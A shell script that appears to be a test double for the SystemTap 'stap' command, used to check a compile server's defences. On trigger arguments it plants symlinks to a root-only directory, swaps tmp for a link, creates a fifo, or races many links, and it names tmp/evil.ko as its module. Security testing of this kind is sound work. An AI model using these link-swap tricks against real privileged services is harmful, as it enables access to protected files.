#!/bin/sh
# stap_swaps.sh: a hostile stand-in for stap (SYSTEMTAP_STAP): for a request whose arguments say
# "STANDIN HOW SECRET ATTACKER" (a comment in its -e script), it leaves links to the root-only
# directory SECRET (or to ATTACKER, a directory the compile account owns) or a fifo where the
# server looks for the module, as HOW says (LINK_KO, LINK_TMP, FIFO_KO or HARD_SWAP), and names
# tmp/evil.ko as its module.  Other runs (stap -V) go to the real stap.
words=$(expr "$*" : '.*STANDIN \([^*]*\)') || exec /usr/bin/stap "$@"
set -- $words
secret=$2 attacker=$3
case "$1" in
  LINK_KO) ln -s "$secret/secret.ko" tmp/evil.ko ;;
  LINK_TMP) mv tmp tmp.old && ln -s "$secret" tmp ;;
  FIFO_KO) mkfifo tmp/evil.ko ;;
  HARD_SWAP) ln -s "$secret" sub; ln -s "$secret/f1" stdout; ln -s "$attacker" response
             for i in $(seq 200); do mkdir -p "d$i"; ln -s "$secret" "d$i/x"; done ;;
esac
echo "$PWD/tmp/evil.ko"
exit 0
